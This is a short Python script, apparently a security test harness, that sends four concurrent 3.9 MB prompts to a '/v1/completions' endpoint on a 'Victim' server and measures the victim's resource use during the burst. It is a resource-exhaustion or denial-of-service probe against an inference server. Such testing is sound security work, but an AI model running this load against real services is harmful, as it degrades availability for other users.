import threading, time, httpx
from harness import *
body = {"prompt": "hello world " * 330000, "max_tokens": 4}
res = []
with Victim() as v:
    time.sleep(2); t0 = time.monotonic()
    ths = [threading.Thread(target=lambda: res.append(httpx.post(BASE + "/v1/completions", json=body, timeout=120).status_code)) for _ in range(4)]
    for t in ths: t.start()
    for t in ths: t.join(120)
    dt = time.monotonic() - t0; time.sleep(2)
print(f"4 x 3.9MB prompt: {dt:.1f}s {res}; victim during:", summary([s for s in v.samples if s[0] + s[1] >= t0 and s[0] <= t0 + dt]))
